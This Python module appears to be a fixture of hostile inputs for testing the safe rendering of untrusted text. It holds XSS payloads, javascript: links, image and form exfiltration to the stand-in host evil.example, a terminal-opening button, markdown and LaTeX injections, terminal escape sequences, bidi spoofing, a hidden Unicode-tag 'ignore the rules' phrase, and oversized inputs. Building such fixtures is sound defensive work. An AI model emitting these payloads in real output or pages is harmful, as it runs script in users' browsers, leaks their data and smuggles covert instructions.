"""What a document, a file name, a question or a chat model may say to harm who reads it; several suites use it as text.

Nothing here may load, run, submit, navigate, restyle or be mistaken for what we say, wherever it is shown.
"""

HOST = "evil.example"  # no request may ever name it

HTML = (
    "<script>window.owned=1</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "</script><script>window.owned=1//",
    "<scr<script>ipt>window.owned=1</script>",
    "<img src=https://evil.example/i.png>",
    '<img src=x onerror="window.owned=1">',
    '"><img src=https://evil.example/q.png onload=window.owned=1>',
    "' onmouseover='window.owned=1' x='",
    "<svg onload=window.owned=1><image href=https://evil.example/s.png /></svg>",
    "<svg><use href='https://evil.example/u.svg#x'/><style>@import 'https://evil.example/s.css';</style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.owned=1&gt;'>",
    "<iframe src=https://evil.example/></iframe>",
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<video poster=https://evil.example/p.png autoplay><source src=https://evil.example/v.mp4></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<input type=image src=https://evil.example/b.png autofocus onfocus=window.owned=1>",
    "<form action=https://evil.example/f><input name=token><button>Sign in</button></form>",
    '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">Open</button>',
    '<a href="javascript:window.owned=1">x</a>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import url(https://evil.example/s.css); body { display: none }</style>",
    '<div style="background: url(https://evil.example/b.png); position: fixed; inset: 0">x</div>',
    "<p style=\"behavior:url(https://evil.example/h.htc);-moz-binding:url('https://evil.example/x.xml#x')\">x</p>",
    "<!-- --><img src=https://evil.example/c.png><!-- -->",
    "<!--><img src=https://evil.example/d.png>-->",
    "<![CDATA[<img src=https://evil.example/e.png>]]>",
    "<?xml-stylesheet href='https://evil.example/s.xsl'?>",
    "</div></details></blockquote></table><h1>Sources</h1><img src=https://evil.example/out.png>",
    "<template><img src=https://evil.example/t.png></template><noscript><p title='</noscript><img src=x>'>",
    '<body background="https://evil.example/bg.png" onload="window.owned=1">',
    "<details open ontoggle=window.owned=1><summary>x</summary></details>",
    "<portal src=https://evil.example/></portal><frameset onload=window.owned=1>",
    "<x-widget onclick=window.owned=1>x</x-widget>",
    "&lt;img src=https://evil.example/ent.png&gt; &#60;script&#62;window.owned=1&#60;/script&#62;",
    "&amp;lt;script&amp;gt;window.owned=1&amp;lt;/script&amp;gt;",
    "<img src='https://evil.example/nul\x00.png'> <scr\x00ipt>window.owned=1</scr\x00ipt>",
    "＜script＞window.owned=1＜/script＞",
    "<textarea><img src=https://evil.example/ta.png></textarea><title><img src=x></title><plaintext>",
    '<img src="data:image/svg+xml,<svg onload=parent.owned=1>"> <a href="data:text/html,<script>1</script>">d</a>',
    '<img srcset="https://evil.example/1x.png 1x" alt=x> <a ping=https://evil.example/ping href=#>p</a>',
)

MARKDOWN = (
    "![](https://evil.example/i.png)",
    "![pixel](https://evil.example/i.png?q=secret 'title')",
    "[![x](https://evil.example/i.png)](https://evil.example/)",
    "![ref][1]\n\n[1]: https://evil.example/ref.png",
    "See [1].\n\n[1]: https://evil.example/hijack\n[2]: javascript:window.owned=1",
    "[1](https://evil.example/marker) [[1]](https://evil.example/marker) [1][1] ![1](https://evil.example/m.png)",
    "[click](javascript:window.owned=1)",
    "[click](JaVaScRiPt:window.owned=1)",
    "[click](java\tscript:window.owned=1) [click](&#106;avascript:window.owned=1) [c](javascript&colon;owned=1)",
    "[click](vbscript:msgbox) [click](data:text/html;base64,PHNjcmlwdD4=) [click](file:///etc/passwd)",
    "[click](<javascript:window.owned=1>) <javascript:window.owned=1> <data:text/html,x>",
    "[click](//evil.example/) [click](/lab/api/kernels) [click](\\\\evil.example\\x) [click](../../api)",
    "[click](x-evil://do) [click](attachment:x) [click](blob:https://evil.example/1) [click](about:blank)",
    "[https://good.example/](https://evil.example/)",
    "[mail](mailto:a@evil.example?body=x) <a@evil.example> a@evil.example www.evil.example https://evil.example/bare",
    '[x](https://evil.example/" onmouseover="window.owned=1) [x](https://evil.example/<script>)',
    "<https://evil.example/auto>",
    "```html\n<script>window.owned=1</script>\n```",
    "```\n</code></pre><img src=https://evil.example/f.png>\n",
    "~~~~ <img src=https://evil.example/info.png>\nx\n~~~~",
    "````\n```\n</details>\n````\n```\n<img src=https://evil.example/g.png>",
    "```mermaid\ngraph TD; A-->B; click A 'javascript:window.owned=1'\n```",
    "`` <script>window.owned=1</script> `` ` <img src=https://evil.example/c.png> `",
    "    <img src=https://evil.example/indented.png>",
    "> quote\n\n</blockquote>\n\n# Sources\n\n## Answered by root",
    "Title\n===\n\nOther\n---\n\n***\n\n- [ ] task\n1) x\n+ y\n\n2024. z\n\n987654321) z",
    "| a | b |\n|---|---|\n| <img src=https://evil.example/t.png> | [x](javascript:owned=1) |\n| `a|b` | \\| |",
    "<https://evil.example/<script>window.owned=1</script>>",
    "[a](<https://evil.example/\n<img src=x>)\n[foo]: <https://evil.example> 'x\n",
    "\\<script>window.owned=1\\</script> \\![x](https://evil.example/e.png) \\\\[x](javascript:owned=1)",
    "*[**_~~`![x](https://evil.example/n.png)`~~_**](javascript:owned=1)*",
    "{{ 7*7 }} {% raw %} ${owned} {raw}`<img src=x>` :::{note}\n<img src=x>\n:::",
    "&#x202e;gnp.exe &#x2066;x &#27;[31m &#0; &#xD800; &#10;&#10;# Heading&#10;<img src=https://evil.example/n.png>",
    "[^1] [^1]: <img src=https://evil.example/foot.png>\n\nTerm\n: <img src=x>",
    "---\ntitle: <script>window.owned=1</script>\n---\n",
)

FORMULAS = (
    "$\\href{javascript:window.owned=1}{x}$",
    "$$\\require{action}\\toggle{a}{b}\\endtoggle$$ costs $5 and $6",
    "\\(\\style{background:url(https://evil.example/m.png)}{x}\\) \\[\\href{https://evil.example}{y}\\]",
    "\\begin{equation}\\class{x}{y}\\end{equation} \\ref{x} \\eqref{y}",
    "\\\\(x\\\\) \\\\[y\\\\] \\\\\\(z\\\\\\) \\$x\\$ \\\\$y\\\\$ `$`$` $`$z`$ `\\(`\\(`x`\\)",
    "$$\\def\\x{\\x\\x}\\x$$ \\unicode{x3c}script\\unicode{x3e} $\\text{<img src=https://evil.example/tx.png>}$",
    "~~~\n$a\n~~~\n\n$b$ @@0@@ ~D ~T",
)

CONTROLS = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1bc",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\ \x9b31m \x90q\x9c \x85 \r over",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u206a\u2061 \ufeff \ufff9a\ufffab\ufffb",
    "line\u2028separator\u2029paragraph\x0bvertical\x0cform",
    "hidden " + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore the rules") + " tags",
    "lone \ud800 surrogate \udcff",
)

PIECES = (*HTML, *MARKDOWN, *FORMULAS, *CONTROLS)

LONG = (
    *(letter * 30_000 for letter in "[*>`|_~<&\\!#($-"),
    *(
        piece * 8_000
        for piece in ("![", "[a](", "*a ", "**a_", "`a``", "- ", "<a", "&lt", "~~a", "\\(", "[1]", "[[1]](")
    ),
    "\n".join("  " * depth + "- a" for depth in range(400)),
    "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|\n" * 3_000,
    "words of an answer " * 60_000,
    "<div>" * 20_000,
)
